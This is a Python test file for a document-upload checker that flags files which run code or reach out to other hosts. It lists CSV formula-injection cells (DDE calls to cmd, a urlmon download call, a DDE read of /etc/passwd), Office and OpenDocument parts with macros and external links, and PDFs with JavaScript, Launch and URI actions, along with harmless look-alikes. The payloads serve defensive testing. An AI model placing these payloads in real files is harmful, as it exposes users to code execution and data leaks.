"""A corpus of files that would run or reach out, each made here, and of harmless brothers that must pass (c4, c44).

`test_active_content.py` has the commonest; here stand the others of each kind, by every way known of hiding them.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest

from engine.foreign.gate import read_here
from reports.file_kinds import fault_of
from tests.reports.test_active_content import (
    OLE,
    docx,
    field,
    linked,
    links,
    noted,
    odt,
    on_opening,
    pdf,
    pressed,
    sheet,
    xlsx,
)
from tests.worlds.good_files import picture

Name, Text = pikepdf.Name, pikepdf.String

# --- text --------------------------------------------------------------------------------------------------------------

#: Cells that start a program or fetch something when a spreadsheet opens the table.
CELLS = [
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=  cmd|'/c calc'!A1", " =cmd|' /C calc'!A0", "\u200b=cmd|' /C calc'!A0", "＝cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc'!A", "=cmd|calc!A0",
    "=IF(1=1,cmd|' /C calc'!A0,0)", "=SUM(A1:A2)&cmd|'/c calc'!A0", "=A1*(1)|'x'!A",
    '=HYPERLINK("http://a.example/"&A1,"Отчёт")', '=hyperlink("http://a.example")', '=WEBSERVICE("http://a.example")',
    '=IMAGE("http://a.example/x.png")', '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")', '=IMPORTDATA("http://a")',
    '=ГИПЕРССЫЛКА("http://a.example";"Отчёт")', '=DDE("soffice";"/etc/passwd";"x")', '=RTD("x";"";"y")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a","c",0,0)', '=EXEC("calc")', '=-REGISTER.ID("a","b")',
    '=HYPERLINK ("http://a.example")', '=1+webservice   ("http://a.example")', '=STOCKHISTORY("x")', '=_xlfn.IMAGE (A1)',
    "=\\\\host\\share\\[a.xlsx]S!A1", "='\\\\host\\share\\[a.xlsx]Лист1'!A1", "='http://a.example/[a.xlsx]S'!A1", "='file:///etc/passwd'#$S.A1!",
]  # fmt: skip
#: Cells that only look alike.
PLAIN = [
    "-5", "-1 234,5", "+7 701 123 45 67", "+7(701)123-45-67", "-", "--", "- пункт первый", "- Да | Нет!", "@minfin_kz",
    "=SUM(A1:A3)", "=A1+B1", "-2+3", "a|'b'!c", "cmd|' /C calc'!A0", "см. HYPERLINK(x)", "https://adilet.zan.kz/!",
    "- см. https://adilet.zan.kz/rus", "=1=1", "====", "+-+", "- журнал (REGISTER) ведётся",
    "- REGISTERS (2)", "=RECALL(1)", "- см. (https://adilet.zan.kz)",
]  # fmt: skip
TABLES: list[tuple[str, Callable[[str], str]]] = [
    ("alone", lambda cell: f"{cell}\n"),
    ("by commas", lambda cell: f"орган,значение\nМКС,{_quoted(cell)}\n"),
    ("by semicolons", lambda cell: f"орган;значение\r\nМКС;{_quoted(cell)};2\r\n"),
    ("by tabs", lambda cell: f"орган\t{cell}\tx\n"),
    ("with its sign told", lambda cell: f"sep=;\nа;{_quoted(cell)}\n"),
]


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def told(kind: str, data: bytes) -> str:
    return read_here(fault_of, kind, data)


@pytest.mark.parametrize("cell", CELLS)
def test_a_table_with_a_cell_that_reaches_out_is_refused_however_it_is_laid_out(cell: str) -> None:
    found = {
        (name, kind, code): told(kind, lay(cell).encode(code))
        for name, lay in TABLES
        for kind in ("csv", "txt")
        for code in ("utf-8-sig", "utf-16")
    }
    assert set(found.values()) == {"reaches_out"}


@pytest.mark.parametrize("cell", PLAIN)
def test_a_cell_that_only_begins_like_a_formula_is_taken(cell: str) -> None:
    assert {told(kind, lay(cell).encode()) for _name, lay in TABLES for kind in ("csv", "txt")} == {""}


@pytest.mark.parametrize(
    "text",
    [
        "{\\rtf1\\ansi{\\object\\objupdate\\objdata 0105}}", "  {\\rt\\object}", "<html><script>x</script></html>",
        "\n\n<!DOCTYPE html><p>x", "<script>x</script>", "<svg onload='x'/>", "<table><tr><td>=1", "<iframe src=x>",
        "ID;PWXL;N;E\nO;E\nC;X1;Y101;K0;EEXEC(\"calc\")\n", "MIME-Version: 1.0\nContent-Type: multipart/related\n",
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?><Workbook/>', '<?xml version="1.0"?><svg/>',
        '<?xml version="1.0"?><w:wordDocument/>', "<?mso-application progid='Word.Document'?>",
    ],
)  # fmt: skip
def test_what_programs_take_for_another_kind_is_no_text(text: str) -> None:
    ways = [text.encode(code) for code in ("utf-8", "utf-8-sig", "utf-16")]
    assert {told(kind, data) for kind in ("csv", "txt") for data in ways} == {"content"}


@pytest.mark.parametrize(
    "text", ["<не указано>", "ID,название\n", "id;Product\n", "ID;Plan;Fact\n1;2;3\n", "{примечание}", "<5 %"]
)
def test_text_that_only_begins_alike_is_taken(text: str) -> None:
    assert told("txt", text.encode()) == ""


def test_a_long_harmless_table_is_looked_through_in_time() -> None:
    """Ten million signs: a fraction of a second, of the five that the reading of a file may take."""
    for row in (
        "МКС;-5;+7 701 000 00 00;https://adilet.zan.kz/rus\n",
        "МКС (проект) от 12 (двенадцатого) мая;(1)\n",
    ):
        assert fault_of("csv", (row * (10_000_000 // len(row))).encode()) == ""


# --- Office and OpenDocument -------------------------------------------------------------------------------------------


def drawn(attributes: str) -> bytes:
    return docx(f"<a:hlinkClick {attributes}/>")


def workbook(name: str, body: str) -> bytes:
    return xlsx(**{f"xl/{name}": body})


PACKAGES: dict[str, tuple[str, str, bytes]] = {
    # Word
    "a chunk of another format": ("docx", "embedded", docx('<w:altChunk r:id="r1"/>')),
    "an object on the page": ("docx", "embedded", docx('<o:OLEObject Type="Embed" ProgID="Package"/>')),
    "a frame set": ("docx", "reaches_out", linked("frame", "file://host/x.htm")),
    "a part of a master document": ("docx", "reaches_out", linked("subDocument", "\\\\host\\a.docx")),
    "a transform": ("docx", "reaches_out", linked("transform", "http://a.example/x.xslt")),
    "the letters' data": ("docx", "reaches_out", linked("mailMergeSource", "file:///C:/a.mdb")),
    "text of another file": ("docx", "reaches_out", docx(field('INCLUDETEXT &quot;http://a/x&quot;'))),
    "a picture from a share": (
        "docx", "reaches_out", docx(field('INCLUDEPICTURE &quot;\\\\\\\\host\\\\x.png&quot;')),
    ),
    "a field that a change took out": (
        "docx", "reaches_out", docx('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE a b</w:delInstrText>'),
    ),
    "a field to press on a share": ("docx", "reaches_out", docx(field('HYPERLINK &quot;file://host/x&quot;'))),
    "a field to press that runs": ("docx", "reaches_out", docx(field('HYPERLINK javascript:x'))),
    "a film of the web": ("docx", "reaches_out", docx('<wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/>')),
    "a drawing's picture": ("docx", "reaches_out", docx('<v:imagedata src="http://a.example/x.png"/>')),
    "a drawing's picture beside": (
        "xlsx", "reaches_out", workbook("drawings/vmlDrawing1.vml", '<xml><v:fill src="\\\\host\\x.png"/></xml>'),
    ),
    "a drawing that starts": ("docx", "macros", drawn('action="ppaction://program"')),
    "a drawing that runs a macro": ("docx", "macros", drawn('action="ppaction://macro?name=x"')),
    "a ribbon of its own": ("docx", "macros", docx(**{"customUI/customUI14.xml": '<customUI onLoad="x"/>'})),
    "a ribbon by its link": ("docx", "macros", linked("extensibility", "u.xml", "Internal")),
    "an add-in": ("docx", "macros", docx(**{"word/webextensions/w1.xml": '<we:webextension id="{1}"/>'})),
    "controls": ("docx", "embedded", linked("control", "activeX1.xml", "Internal")),
    "a script in a drawing": ("docx", "macros", docx(**{"word/media/image1.svg": "<svg><script>x</script></svg>"})),
    "an event of a drawing": ("docx", "macros", docx(**{"word/media/image1.svg": '<svg><g onclick="x"/></svg>'})),
    "a drawing that fetches": (
        "docx", "reaches_out", docx(**{"word/media/image1.svg": '<svg><image href="https://a.example/x"/></svg>'}),
    ),
    "a page": ("docx", "embedded", docx(**{"word/media/image1.png": "<html><script/></html>"})),
    "rich text": ("docx", "embedded", docx(**{"word/afchunk.dat": "{\\rtf1\\object}"})),
    # alphabets in which a part hides
    "an alphabet without its mark": ("docx", "reaches_out", docx(f"<w>{field('DDE x y')}</w>".encode("utf-16-be"))),
    "the other order": ("docx", "reaches_out", docx(f"<w>{field('DDE x y')}</w>".encode("utf-16-le"))),
    "an alphabet that is not read": ("docx", "content", docx('<?xml version="1.0" encoding="UTF-7"?><w/>')),
    "an alphabet of large machines": ("docx", "content", docx("<w/>".encode("cp037"))),
    "an alphabet of Russia": (
        "docx", "reaches_out",
        docx(f'<?xml version="1.0" encoding="windows-1251"?><w>Отчёт{field("DDE x y")}</w>'.encode("cp1251")),
    ),
    # what stands before the archive
    "an old document before it": ("docx", "content", OLE + docx()),
    "rich text before it": ("docx", "content", b"{\\rtf1}" + docx()),
    "a PDF before it": ("docx", "content", b"%PDF-1.4\n" + docx()),
    "a page before it": ("xlsx", "content", b"<html></html>" + xlsx()),
    "a program before it": ("odt", "content", b"MZ" + odt()),
    "an old document": ("docx", "content", OLE),
    "an old workbook with macros": ("xlsx", "content", OLE + "_VBA_PROJECT".encode("utf-16-le")),
    "rich text alone": ("docx", "content", b"{\\rtf1\\objupdate}"),
    # Excel
    "a sheet of macros": ("xlsx", "macros", workbook("macrosheets/sheet1.xml", "<xm:macrosheet/>")),
    "a sheet of macros by its kind": (
        "xlsx", "macros",
        xlsx(**{"[Content_Types].xml": '<Types><Override PartName="/xl/worksheets/sheet1.xml" '
                'ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/></Types>'}),
    ),
    "a dialogue": ("xlsx", "macros", workbook("dialogsheets/sheet1.xml", "<dialogsheet/>")),
    "a macro's name": ("xlsx", "macros", workbook("n.xml", '<a><definedName name="x" macro="1">A1</definedName></a>')),
    "a name that opens": ("xlsx", "macros", workbook("n.xml", '<a><definedName name="AUTO_OPEN">A1</definedName></a>')),
    "a name that reaches out": (
        "xlsx", "reaches_out", workbook("n.xml", "<a><definedName name='x'>cmd|'/c calc'!A1</definedName></a>"),
    ),
    "a shape with another file's macro": (
        "xlsx", "macros", workbook("drawings/drawing1.xml", '<a><xdr:sp macro="&apos;C:\\x.xlsm&apos;!Run"/></a>'),
    ),
    "a database": ("xlsx", "reaches_out", workbook("connections.xml", '<c><dbPr connection="Provider=x"/></c>')),
    "a text beside": ("xlsx", "reaches_out", workbook("connections.xml", '<c><textPr sourceFile="C:\\a.txt"/></c>')),
    "a file of connection": (
        "xlsx", "reaches_out", workbook("connections.xml", '<c><connection odcFile="http://a.example/x.odc"/></c>'),
    ),
    "publishing": (
        "xlsx", "reaches_out",
        workbook("worksheets/sheet1.xml", '<worksheet><webPublishItems><webPublishItem id="1"/></webPublishItems></worksheet>'),
    ),
    "another workbook of the web": (
        "xlsx", "reaches_out", xlsx(**{"xl/externalLinks/_rels/a.rels": links("externalLinkPath", "https://a/x.xlsx")}),
    ),
    "another workbook of a share": (
        "xlsx", "reaches_out", xlsx(**{"xl/externalLinks/_rels/a.rels": links("externalLinkPath", "file:///\\\\h\\x.xls")}),
    ),
    "a picture by formula": ("xlsx", "reaches_out", sheet("_xlfn.IMAGE(A1)")),
    "a link of a formula": ("xlsx", "reaches_out", sheet("HYPERLINK(&quot;\\\\host\\x&quot;,A1)")),
    "a share in a formula": ("xlsx", "reaches_out", sheet("&apos;\\\\host\\[a.xls]S&apos;!A1")),
    "live data": ("xlsx", "reaches_out", sheet("RTD(&quot;x&quot;,,A1)")),
    # OpenDocument
    "a script of OpenDocument": ("odt", "macros", odt('<office:scripts><office:script/></office:scripts>')),
    "Python": ("odt", "macros", odt(**{"Scripts/python/x.py": "x"})),
    "a dialogue of OpenDocument": ("odt", "macros", odt(**{"Dialogs/Standard/D.xml": "<x/>"})),
    "a link that runs": ("odt", "macros", odt('<text:a xlink:href="macro:///Standard.M.x">x</text:a>')),
    "a section of another file": ("odt", "reaches_out", odt('<text:section-source xlink:href="http://a/x"/>')),
    "a template of OpenDocument": (
        "odt", "reaches_out", odt(**{"meta.xml": '<o><meta:template xlink:href="https://a.example/t.ott"/></o>'}),
    ),
    "a font of the web": ("odt", "reaches_out", odt('<svg:font-face-uri xlink:href="https://a.example/f"/>')),
    "a frame of a page": ("odt", "reaches_out", odt('<draw:floating-frame xlink:href="https://a.example"/>')),
    "an applet": ("odt", "embedded", odt("<draw:applet/>")),
    "a picture on a share": ("odt", "reaches_out", odt('<draw:image xlink:href="file://host/x.png"/>')),
    "a source of data": ("odt", "reaches_out", odt("<form:connection-resource xlink:href='http://a/x'/>")),
}  # fmt: skip
HARMLESS: dict[str, tuple[str, bytes]] = {
    "a link in a field": ("docx", docx(field('HYPERLINK &quot;https://adilet.zan.kz/&quot;'))),
    "a link to a place": ("docx", docx(field('HYPERLINK \\l &quot;_Toc1&quot;'))),
    "contents, pages, dates": (
        "docx", docx(field('TOC \\o &quot;1-3&quot; \\h') + field('NUMPAGES') + field('DATE') + field('REF a')),
    ),
    "a letter by post": ("docx", linked("hyperlink", "mailto:kense@gov.kz")),
    "fonts": ("docx", docx(**{"word/fonts/font1.odttf": b"\x12\x34" * 90, "word/fontTable.xml": "<w:fonts/>"})),
    "a picture": ("docx", docx(**{"word/media/image1.png": b"\x89PNG\r\n\x1a\n"})),
    "a vector picture": ("docx", docx(**{"word/media/i.svg": '<svg><use href="#a"/><image href="data:image/png;base64,AA"/></svg>'})),
    "a drawing of old Word": ("xlsx", workbook("drawings/vmlDrawing1.vml", '<xml><v:shape><v:imagedata o:relid="r1"><br></xml>')),
    "settings of a printer": ("xlsx", xlsx(**{"xl/printerSettings/printerSettings1.bin": b"\0\1\2"})),
    "a shape without a macro": ("xlsx", workbook("drawings/drawing1.xml", '<a><xdr:sp macro="" textlink=""/></a>')),
    "a shape of a macro left out": ("xlsx", workbook("drawings/drawing1.xml", '<a><xdr:sp macro="[0]!Button1"/></a>')),
    "a name of a function": ("xlsx", workbook("n.xml", '<a><definedName name="_xlfn.IFERROR" hidden="1">#NAME?</definedName></a>')),
    "names of areas": ("xlsx", workbook("n.xml", "<a><definedName name='_xlnm.Print_Area'>'Лист 1'!A1:B2</definedName></a>")),
    "a link of a formula": ("xlsx", sheet("HYPERLINK(&quot;https://stat.gov.kz/&quot;,A1)")),
    "a link to a sheet": ("xlsx", sheet("HYPERLINK(&quot;#Лист2!A1&quot;,A1)")),
    "a table of another sheet": ("xlsx", sheet("VLOOKUP(A1,&apos;Свод 2018&apos;!A:B,2,0)")),
    "settings left empty": ("odt", odt(**{"Configurations2/accelerator/current.xml": b""})),
    "no scripts": ("odt", odt("<office:scripts/>")),
    "a template of one's own": ("odt", odt(**{"meta.xml": '<o><meta:template xlink:href="file:///C:/t.ott"/></o>'})),
}  # fmt: skip


@pytest.mark.parametrize("what", PACKAGES)
def test_a_package_that_is_active_is_told_why(what: str) -> None:
    kind, code, data = PACKAGES[what]
    assert told(kind, data) == code


@pytest.mark.parametrize("what", HARMLESS)
def test_a_package_that_only_shows_is_taken(what: str) -> None:
    kind, data = HARMLESS[what]
    assert told(kind, data) == ""


# --- PDF and pictures --------------------------------------------------------------------------------------------------


def opening(made: pikepdf.Pdf, **action: Any) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(**action)


def to_file(made: pikepdf.Pdf, kind: str, name: object) -> None:
    noted(made, Subtype=Name.Link, A=pikepdf.Dictionary(S=Name(f"/{kind}"), F=name))


def outside(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F=Text("http://a.example/x"))


def reference(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form)
    form.Ref = pikepdf.Dictionary(F=Text("\\\\host\\x.pdf"), Page=0)
    made.Root.Held = form


def with_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([pikepdf.Dictionary(FT=Name.Tx, T=Text("name"), V=Text("Отчёт"))]),
        NeedAppearances=True,
    )


def with_font(made: pikepdf.Pdf) -> None:
    made.Root.Held = pikepdf.Dictionary(Type=Name.FontDescriptor, FontFile2=made.make_stream(b"\0\1\0\0"))


def with_picture(made: pikepdf.Pdf) -> None:
    made.Root.Held = made.make_stream(b"\xff\xd8\xff", Subtype=Name.Image, Filter=Name.DCTDecode)


NEXT = pikepdf.Dictionary
PDFS: dict[str, tuple[str, Callable[[pikepdf.Pdf], object]]] = {
    "a script after a place": (
        "scripts", lambda made: opening(made, S=Name.GoTo, Next=NEXT(S=Name.GoTo, Next=NEXT(S=Name.JavaScript, JS=Text("x")))),
    ),
    "an address after a place": (
        "reaches_out", lambda made: opening(made, S=Name.GoTo, Next=pikepdf.Array([NEXT(S=Name.URI, URI=Text("https://a"))])),
    ),
    "on closing": ("reaches_out", lambda made: setattr(made.Root, "AA", NEXT(WC=NEXT(S=Name.URI, URI=Text("http://a"))))),
    "on a page": ("scripts", lambda made: setattr(made.pages[0], "AA", NEXT(O=NEXT(S=Name.Launch, F=Text("cmd.exe"))))),
    "on a field": ("scripts", lambda made: noted(made, Subtype=Name.Screen, AA=NEXT(K=NEXT(S=Name.JavaScript, JS=Text("x"))))),
    "named scripts": ("scripts", lambda made: setattr(made.Root, "Names", NEXT(JavaScript=NEXT(Names=pikepdf.Array())))),
    "another file on opening": ("reaches_out", lambda made: opening(made, S=Name.GoToR, F=Text("a.pdf"))),
    "a file of a share": ("reaches_out", lambda made: to_file(made, "GoToR", Text("\\\\host\\x.pdf"))),
    "a file of the web": ("reaches_out", lambda made: to_file(made, "GoToR", NEXT(FS=Name.URL, F=Text("http://a/x")))),
    "a share by its name": ("reaches_out", lambda made: to_file(made, "GoToR", NEXT(F=Text("//host/x.pdf")))),
    "a thread of a share": ("reaches_out", lambda made: to_file(made, "Thread", Text("//host/x.pdf"))),
    "a file inside a file": ("embedded", lambda made: to_file(made, "GoToE", Text("x"))),
    "a file of one's own machine": ("scripts", lambda made: pressed(made, "file:///C:/Windows/calc.exe")),
    "a share to press": ("scripts", lambda made: pressed(made, "\\\\host\\x")),
    "a program of Office to press": ("scripts", lambda made: pressed(made, "ms-word:ofe|u|http://a/x.docx")),
    "data sent": ("reaches_out", lambda made: on_opening(made, S="/ImportData")),
    "a sound": ("embedded", lambda made: on_opening(made, S="/Sound")),
    "a model": ("embedded", lambda made: noted(made, Subtype=Name("/3D"))),
    "content that lies elsewhere": ("reaches_out", outside),
    "a page of another file": ("reaches_out", reference),
    "a plain form": ("", with_form),
    "a font": ("", with_font),
    "a picture": ("", with_picture),
    "another volume beside": ("", lambda made: to_file(made, "GoToR", Text("volume2.pdf"))),
    "a letter by post": ("", lambda made: pressed(made, "mailto:kense@gov.kz")),
    "a place after a place": ("", lambda made: opening(made, S=Name.GoTo, Next=NEXT(S=Name.Named, N=Name.NextPage))),
}  # fmt: skip


@pytest.mark.parametrize("what", PDFS)
def test_a_pdf_is_told_by_what_it_does(what: str) -> None:
    code, change = PDFS[what]
    ways: list[dict[str, object]] = [
        {},
        {
            "object_stream_mode": pikepdf.ObjectStreamMode.generate,
            "encryption": pikepdf.Encryption(owner="a", user=""),
        },
    ]
    assert [told("pdf", pdf(change, **way)) for way in ways] == [code] * 2


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as inside:
        inside.writestr("run.js", "x")
    return made.getvalue()


PICTURE = picture("PNG")


def test_a_file_that_is_an_archive_as_well_is_refused() -> None:
    assert told("pdf", pdf() + archive()) in ("embedded", "cut_short")
    assert told("pdf", pdf() + archive() + b"\n%%EOF\n") == "embedded"
    assert told("png", PICTURE + archive()) == "embedded"
    assert told("jpg", picture("JPEG") + archive()) == "embedded"
    assert told("png", PICTURE) == told("pdf", pdf()) == ""


def test_the_child_finds_them_too() -> None:
    for what in ("an alphabet of Russia", "a script in a drawing", "another workbook of a share"):
        kind, code, data = PACKAGES[what]
        assert fault_of(kind, data) == code
    assert fault_of("csv", f"а;{CELLS[0]}\n".encode("cp1251")) == "reaches_out"
